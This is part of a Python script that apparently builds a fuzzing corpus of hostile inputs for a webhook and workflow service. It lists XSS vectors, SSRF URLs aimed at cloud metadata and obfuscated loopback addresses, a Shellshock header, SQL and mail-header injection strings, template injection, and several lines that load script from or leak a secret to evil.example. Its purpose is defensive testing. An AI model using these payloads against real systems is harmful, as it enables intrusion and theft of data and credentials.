        "cut": b'{"a": ', "cut-string": b'{"a": "', "two": b'{"a":1}{"b":2}', "after": b'{"a":1} x', "comma": b'{"a":1,}', "no-quotes": b"{a: 1}", "single-quotes": b"{'a': 1}", "comment": b"{/* */}", "nan": b'{"a": NaN}', "infinity": b'{"a": Infinity}', "hex": b'{"a": 0x1}', "leading-zero": b'{"a": 01}', "plus": b'{"a": +1}', "huge": b'{"a": 1e999}', "undefined": b"undefined", "bare": b"word", "nul": b'{"a": "\0"}', "nul-escape": b'{"a": "\\u0000"}', "nul-key": b'{"\\u0000": 1}', "utf8": b'{"a": "\xff"}', "overlong": b'{"a": "\xc0\x80"}', "surrogate": b'{"a": "\\ud800"}', "control": b'{"a": "\x01"}', "newline": b'{"a": "x\ny"}', "bad-escape": b'{"a": "\\x"}', "deep-list": b"[" * 4_000, "deep-object": b'{"a":' * 2_000, "deep-closed": b"[" * 2_000 + b"]" * 2_000, "127-levels": b"[" * 129 + b"]" * 129, "bom": b"\xef\xbb\xbf{}", "only-space": b"   ", "one-byte": b"{", "quote": b'"', "pretends": b'{"method": "DELETE", "headers": {"authorization": "x"}, "path": "/admin", "query": {"respond": "finished"}}', "proto": b'{"__proto__": {"admin": true}}', "long-key": b'{"' + b"k" * 5_000 + b'": 1}', "many-keys": b"{" + b",".join(b'"k%d":%d' % (n, n) for n in range(400)) + b"}", "duplicate": b'{"a": 1, "a": 2}', "large-integer": b'{"a": 123456789012345678901234567890}', "tiny": b'{"a": 1e-400}', "minus-zero": b'{"a": -0}', "list": b"[1, 2]", "text": b'"x"', "number": b"7", "null": b"null", "true": b"true",
    }.items():
        put("webhook", "json", send(body), name, "http")
    for name, body in {
        "nul": b"a=%00", "nul-key": b"%00=1", "plain-nul": b"a=\0", "utf8": b"a=%ff%fe", "bad-percent": b"a=%zz&b=%", "amps": b"&" * 500, "equals": b"=" * 500, "many": b"a=1&" * 1_000, "brackets": b"a[b][c]=1&a[]=2", "dots": b"a.b.c=1", "proto": b"__proto__[x]=1", "json": b'{"a": 1}', "plus": b"a=+b+c", "crlf": b"a=x%0d%0aSet-Cookie:+y=1", "long": b"a=" + b"x" * 5_000, "only-key": b"a", "semicolons": b"a=1;b=2", "repeat-other": b"body=1&headers=2&method=DELETE",
    }.items():
        put("webhook", "form", send(body, "application/x-www-form-urlencoded"), name, "http")
    for query in ["respond=", "respond=now", "respond=finished&respond=accepted", "respond[]=accepted", "respond=FINISHED", "respond=accepted%00", "RESPOND=x", "a=%ff", "a=%00", "%00=1", "a=%0d%0ab", "=", "&&&", "a=1&a=2&a=3", "token=x", "..%2f..%2fetc", "a=" + "x" * 2_000, "__proto__=1", "respond=accepted;x", "q=<script>alert(1)</script>"]:
        put("webhook", "query", send(b"{}", query=query.replace("<", "%3C").replace(">", "%3E")), query, "http")
    for header in ["idempotency-key: ", "idempotency-key: " + "k" * 300, "idempotency-key: \u00e9", "webhook-id: ", "webhook-id: " + "x" * 256, "x-idempotency-key: a\tb", "prefer: wait=-1", "prefer: wait=99999999999999999999", "prefer: wait=x", "prefer: wait", "prefer: respond-async, wait=1e9", "expect: nothing", "x-forwarded-for: 127.0.0.1", "x-forwarded-host: evil.example", "forwarded: for=_x", "authorization: Basic x", "cookie: signalbox_session=x", "origin: https://evil.example", "x-evil: {{secrets.key}}", "x-evil: <script>", "user-agent: () { :; }; id", "referer: javascript:alert(1)", "accept-encoding: *;q=0", "range: bytes=0-0", "if-match: *", "webhook-timestamp: x", "webhook-signature: v1,x"]:
        put("webhook", "header", send(b"{}", more=header), header, "http")


def frames():
    run = "018f4e9c-5f6b-7cc1-8a54-0123456789ab"
    good = json.dumps({"type": "follow_run", "run": run, "after": 0})
    for match in list(TOKEN.finditer(good))[:-1]:
        put("live", "truncated", good[: match.end()], ending="json")
    for value in [None, True, -1, 0.5, 1e300, "0", [], {}, "x"]:
        put("live", "after", json.dumps({"type": "follow_run", "run": run, "after": value}), repr(value), "json")
        put("live", "after", json.dumps({"type": "follow", "after": value}), "feed" + repr(value), "json")
    put("live", "after", '{"type":"follow","after":18446744073709551616}', "too large", "json")
    for value in [None, True, 7, "", "x", [], {}, run[:-1], run + "0", run.replace("-", "_"), run.upper() + " ", "{" + run[:-1], "urn:uuid:" + run[:-1], "\u0660" * 36, "../" + run, "00000000-0000-0000-0000-00000000000g", " " + run, run + "\n"]:
        put("live", "run", json.dumps({"type": "follow_run", "run": value, "after": 0}), repr(value), "json")
        put("live", "run", json.dumps({"type": "unfollow_run", "run": value}), "un" + repr(value), "json")
    for value in [None, True, 7, "", "Follow", "FOLLOW", "follow ", "followRun", "follow-run", "hello", "plan.created", "resync", "error", "ping", "subscribe", "__proto__", "follow\u0000", "f\u043ellow", [], {}]:
        put("live", "type", json.dumps({"type": value, "after": 0}), repr(value), "json")
    for text in ["", " ", "{", "}", "[]", "null", "true", "7", '"follow"', "{}", '{"type"}', '{"type":"follow"', '{"type":"follow","type":"x"}', '{"type":"follow"}{"type":"follow"}', "{'type':'follow'}", '{type:"follow"}', '{"type":"follow",}', '{"typ":"follow"}', '{"Type":"follow"}', '["follow"]', '{"type":{"follow":{}}}', '{"follow":{"after":1}}', "[" * 5_000, '{"type":' * 2_000, '{"type":"' + "x" * 5_000 + '"}', "\u0000", "\ufeff{}", '{"type":"\\u0000"}', '{"type":"\\ud800"}', "<xml/>", "GET / HTTP/1.1\r\n\r\n", "follow", "ping", "\u202e", '{"type":"follow_run"}', '{"type":"unfollow_run"}', '{"type":"follow_run","after":0}', '{"type":"unfollow_run","after":0}']:
        put("live", "frame", text, text, "json")


def cursors():
    run = "018f4e9c-5f6b-7cc1-8a54-0123456789ab"
    for text in ["", " ", "x", "1", ".", "..", "1.", ".1", "1.2", "-1.x", "null", "{}", "[]", "0", "-1", "1e3", "NaN", "true", "undefined", "../x", "..%2f", "%00", "\u0000", "a\u0000b", "' OR 1=1 --", "1; DROP TABLE runs", "<script>", "{{secrets.key}}", "9e99.9e99", "1" * 400, "." * 300, run[:-1], run + "0", run.replace("-", "."), run[1:] + "g", "{" + run, run + "}", "urn:uuid:" + run[:-2], f"1.{run[:-1]}", f"x.{run}", f"1.5.{run}", f" 1.{run}", f"1 .{run}", f"1.{run} ", f"1,{run}", f"1:{run}", f"1_{run}", f"0x1.{run}", f"1e3.{run}", f"9223372036854775808.{run}", f"-9223372036854775809.{run}", f"9223372036854775807.{run}", f"-9223372036854775808.{run}", f"8210298412800000.{run}", f"\u0661.{run}", f"1\u2024{run}", f"1.{run}.{run}", f"1.{run}\u0000", f"\ufeff1.{run}", f"1.\u202e{run}", f"1.{run.upper()}x", "MS4w", "eyJhbGciOiJub25lIn0.e30.", "AAAA", "=" * 8]:
        put("cursor", "cursor", text, text)


# ---- what leaves -----------------------------------------------------------------------------------------------


def addresses():
    for scheme in ["file", "ftp", "ftps", "sftp", "gopher", "dict", "ldap", "ldaps", "tftp", "telnet", "ssh", "smtp", "imap", "pop3", "jar", "netdoc", "phar", "expect", "php", "data", "javascript", "vbscript", "ws", "wss", "unix", "smb", "nfs", "git", "svn", "about", "blob", "view-source", "mailto", "tel", "redis", "mysql", "postgres", "mongodb", "amqp", "s3", "gs", "HTTP+unix"]:
        put("address", "scheme", f"{scheme}://example.com/x", scheme, "url")
    for text in ["file:///etc/passwd", "data:text/html,x", "javascript:alert(1)", "mailto:a@example.com", "about:blank"]:
        put("address", "scheme", text, text, "url")
    for port in [0, 1, 21, 22, 23, 25, 53, 81, 110, 111, 135, 139, 143, 389, 445, 465, 587, 993, 995, 1433, 1521, 2049, 2375, 2379, 3000, 3306, 3389, 5432, 5601, 5672, 6379, 6443, 8000, 8080, 8443, 8500, 9000, 9090, 9200, 10250, 11211, 15672, 27017, 50070, 65535]:
        put("address", "port", f"http://example.com:{port}/", str(port), "url")
    for text in ["http://user@example.com/", "http://user:pw@example.com/", "http://:pw@example.com/", "http://example.com@127.0.0.1/", "http://example.com:80@127.0.0.1/", "http://127.0.0.1#@example.com/", "http://127.0.0.1\\@example.com/", "http://127.0.0.1%23@example.com/", "http://a:b:c@example.com/", "http://example.com%40127.0.0.1/", "http://%40127.0.0.1@example.com/", "http://127.0.0.1;@example.com/", "http://example.com;@127.0.0.1/", "http://127.0.0.1:80\\@example.com:80/", "http://x@[::1]/", "http://1.1.1.1 &@127.0.0.1# @3.3.3.3/", "http://127.0.0.1:11211:80/", "http://example.com:80:22/"]:
        put("address", "sign-in", text, text, "url")
    private = ["0.0.0.0", "0.1.2.3", "10.0.0.1", "10.255.255.255", "100.64.0.1", "100.127.255.254", "127.0.0.1", "127.0.0.2", "127.255.255.254", "169.254.169.254", "169.254.170.2", "172.16.0.1", "172.31.255.255", "192.0.0.1", "192.0.2.1", "192.88.99.1", "192.168.0.1", "192.168.255.255", "198.18.0.1", "198.51.100.1", "203.0.113.1", "224.0.0.1", "239.255.255.255", "240.0.0.1", "255.255.255.255"]
    for address in private:
        a, b, c, d = (int(part) for part in address.split("."))
        number = (a << 24) + (b << 16) + (c << 8) + d
        mapped = f"{a << 8 | b:x}:{c << 8 | d:x}"
        forms = {"plain": address, "number": str(number), "hex": hex(number), "octal": "0" + oct(number)[2:], "parts-hex": f"{a:#x}.{b:#x}.{c:#x}.{d:#x}", "parts-octal": f"0{a:o}.0{b:o}.0{c:o}.0{d:o}", "three-parts": f"{a}.{b}.{c << 8 | d}", "two-parts": f"{a}.{b << 16 | c << 8 | d}", "mixed": f"{a:#x}.{b}.0{c:o}.{d}", "zeros": f"0000{a:o}.{b}.{c}.{d}", "dot": address + ".", "mapped": f"[::ffff:{address}]", "mapped-hex": f"[::ffff:{mapped}]", "nat64": f"[64:ff9b::{mapped}]", "6to4": f"[2002:{mapped}::]", "compatible": f"[::{address}]"}
        keep = list(forms) if address in ("127.0.0.1", "169.254.169.254", "10.0.0.1", "192.168.0.1") else ["plain", "number", "parts-hex", "mapped", "nat64", "6to4", "two-parts"]
        for form in keep:
            put("address", "private", f"http://{forms[form]}/latest/meta-data/", f"{address} {form}", "url")
    for text in ["[::]", "[::1]", "[0:0:0:0:0:0:0:1]", "[0000:0000::0001]", "[::0.0.0.1]", "[fe80::1]", "[fe80::a9fe:a9fe]", "[fec0::1]", "[fc00::1]", "[fd00:ec2::254]", "[fd12:3456::1]", "[ff02::1]", "[ff0e::1]", "[100::1]", "[2001::1]", "[2001:db8::1]", "[2001:10::1]", "[2001:20::1]", "[3fff::1]", "[4000::1]", "[8000::1]", "[64:ff9b:1::1]", "[fe80::1%25eth0]", "[::1%25lo]", "[::ffff:0:127.0.0.1]", "[::ffff:7f00:1]", "[2002:7f00:1::1]", "[2002:c0a8:1::]"]:
        put("address", "private-v6", f"https://{text}/", text, "url")
    for text in ["localhost", "LOCALHOST", "localhost.", "LocalHost.", "\uff4cocalhost", "loc%61lhost", "%6c%6f%63%61%6c%68%6f%73%74", "l\u2134calhost", "\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3", "localhost:80", "localhost:443"]:
        put("address", "localhost", f"http://{text}/", text, "url")
    for text in ["127\u30020\u30020\u30021", "\u2460\u2461\u2466.0.0.1", "\uff11\uff12\uff17.0.0.1", "127.0.0.%31", "%31%32%37.0.0.1", "0x7f.0x1", "0x7f000001", "017700000001", "00000000000000000000000000000000000000000000000177.1", "127.0.0.1%2f", "127.0.0.1\u3002", "\uff0e\uff0e127.0.0.1", "1\u00ad27.0.0.1", "127.1", "127.0.1", "0", "0x0", "00", "0x7f.1", "127.0.0.1.", "4294967295", "0xffffffff"]:
        put("address", "written-otherwise", f"http://{text}/", text, "url")
    for text in ["", " ", "/", "//", "///", "http", "http:", "http:/", "http://", "http:///", "http://?", "http://#", "http://:80", "http://@", "http://.", "http://..", "http://%", "http://%zz/", "http://[", "http://[]", "http://[::1", "http://::1/", "http://[::g]/", "http://[1.2.3.4]/", "http://1.2.3.256/", "http://256.1/", "http://1.2.3.4.5/", "http://0x100000000/", "http://example.com:99999/", "http://example.com:-1/", "http://example.com:x/", "http://exa mple.com/", "http://exam\tple com/", "http://example.com\u0000/", "http://\u0000/", "http://a<b/", "http://a^b/", "http://a|b/", "http://xn--/", "http://xn--a/", "http://\u202e/", "ht\u0442p://example.com/", "://example.com", "example.com", "//example.com/x", "/etc/passwd", "\\\\server\\share", "C:\\x", "{{input.url}}", "http//example.com", "https;//example.com", "h ttp://example.com", "\u00adhttp://example.com"]:
        put("address", "no-address", text, text, "url")


def mails():
    breaks = {"crlf": "\r\n", "lf": "\n", "cr": "\r", "nul": "\0", "vt": "\v", "ff": "\f", "nel": "\u0085", "ls": "\u2028", "ps": "\u2029", "esc": "\x1b", "del": "\x7f", "tab": "\t", "bell": "\x07", "bs": "\b", "crcrlf": "\r\r\n", "lfcr": "\n\r", "two": "\r\n\r\n"}
    after = {"bcc": "Bcc: everybody@example.com", "fold": " folded", "body": "Content-Type: text/html", "nothing": ""}
    for field, base in {"from": "Shop <shop@example.com>", "to": "Ada <ada@example.com>", "cc": "bob@example.com", "reply_to": "help@example.com", "subject": "Hello"}.items():
        for (name, line), (what, rest) in itertools.product(breaks.items(), after.items()):
            if what in ("fold", "body") and name not in ("crlf", "lf", "two"):
                continue
            put("mail", "line", f"{field}\n{base}{line}{rest}", f"{field} {name} {what}")
            if name in ("crlf", "lf", "nul") and what == "bcc" and field != "subject":
                put("mail", "line", f"{field}\nA{line}{rest} <{base.split('<')[-1].rstrip('>')}>", f"{field} {name} name")
    addresses = ["", " ", "nobody", "@", "a@", "@b", "a@b@c.example", "a b@example.com", "a@exa mple.com", "a@.example", "a@example..com", ".a@example.com", "a.@example.com", "a..b@example.com", "<>", "<a@example.com", "a@example.com>", "<<a@example.com>>", "Ada <>", "Ada <a@>", "Ada <a@example.com> <b@example.com>", "a@example.com, b@example.com", "a@example.com; b@example.com", "a@example.com b@example.com", "A <a@example.com>, B <b@example.com>", "Group: a@example.com;", "undisclosed-recipients:;", "<@relay.example:a@example.com>", "a%b@example.com@relay.example", "a!b@example.com!", "\"a@example.com", "\"\r\n\"@example.com", "\"\"@example.com", "a@[127.0.0.1", "a@[127.0.0.1]x", "a@localhost\0", "a@-example.com", "x" * 65 + "@example.com", "a@" + "x" * 260 + ".example", "a@" + ".".join(["x" * 64] * 3) + ".example", "A" * 1_000 + " <a@example.com>", "a@example.com (comment", "a@\u202eexample.com", "a\u0000@example.com", "\u0430da@example.com\u0000", "=?utf-8?q?a=0d=0ab?= <a@", "mailto:a@example.com", "http://a@example.com/", "a@example.com?bcc=b@example.com", "a@example.com/../b", "{{input.email}}", "$(id)@example.com;", "'; DROP TABLE contacts; --", "|/bin/sh", "a@example.com\u3000,b@example.com", "a\uff20example.com", "a@example\u3002com\u3002"]
    for text in addresses:
        put("mail", "address", f"to\n{text}", text)
    for text in addresses[:45]:
        put("mail", "address", f"reply_to\n{text}", f"reply to {text}")
    for text in ["=?utf-8?q?=0D=0ABcc:_x@example.com?=", "=?utf-8?b?DQpCY2M6IHhAZXhhbXBsZS5jb20=?=", "=?bad?x?", "x" * 999, "\u00e9" * 600, "\U0001f682" * 300, "%0d%0aBcc:x", "\\r\\nBcc: x", "&#13;&#10;Bcc: x", "\u560a\u560dBcc: x", "a\u202eb", "\ufeff", ".", "..", "From x", "x: y", ": ", " leading", "trailing ", "\u00a0"]:
        put("mail", "subject", f"subject\n{text}", text)


def scripts():
    tags = ["script", "img", "svg", "body", "iframe", "input", "video", "audio", "details", "object", "embed", "math", "marquee", "select", "textarea", "form", "a", "base", "link", "meta", "style", "template", "isindex", "keygen", "table"]
    events = ["onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onanimationstart", "onpointerover"]
    for number, tag in enumerate(tags):
        for event in (events[number % 8], events[(number + 3) % 8]):
            put("script", "tag", f"<{tag} src=x {event}=alert({number})>", f"{tag} {event}")
        put("script", "tag", f"</title><{tag.upper()}/{events[number % 8]}=alert`{number}`//", f"{tag} slash")
    for text in ["<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script src=//evil.example></script>", "<script/src=data:,alert(1)>", "<script type=module>import'//evil.example'</script>", "--><script>alert(1)</script>", "<!--<script>alert(1)//-->", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "</noscript><script>alert(1)</script>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "\" autofocus onfocus=alert(1) x=\"", "x\" style=\"background:url(javascript:alert(1))", "expression(alert(1))", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)", "<\u0000script>alert(1)</script>", "<script\u0000>alert(1)</script>", "<\u2028script>alert(1)", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{{7*7}}", "[[${7*7}]]", "<x contenteditable onblur=alert(1)>lose focus", "<a href=\"javascript:alert(1)\">x</a>", "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x", "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><script>alert&#40;1&#41;</script>", "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example>", "<style>@import'//evil.example';</style>", "<img src='x' srcset='x' onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">", "<a name=document>", "<form id=test><input name=parentNode>", "<img name=getElementById>", "[x](javascript:alert(1))", "![x](https://evil.example/pixel?{{secrets.key}})", "<!--#exec cmd=\"id\"-->", "<?php system('id'); ?>", "<esi:include src=//evil.example/>", "\u202e<script>", "<plaintext>", "<xmp>", "<noembed>", "<frameset onload=alert(1)>", "<bgsound src=javascript:alert(1)>", "<layer src=//evil.example>", "<?xml-stylesheet href=javascript:alert(1)?>", "<html xmlns:x><x:script>alert(1)</x:script>", "<image/src=x onerror=alert(1)>", "<dialog open onclose=alert(1)>", "<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>", "<x onclick=alert(1) popovertarget=y>"]:
        put("script", "text", text, text)


for make in (documents, references, yaml, expressions, templates, crons, webhooks, frames, cursors, addresses, mails, scripts):
    make()
total = {}
for (target, _), count in counts.items():
    total[target] = total.get(target, 0) + count
print(total, sum(total.values()))
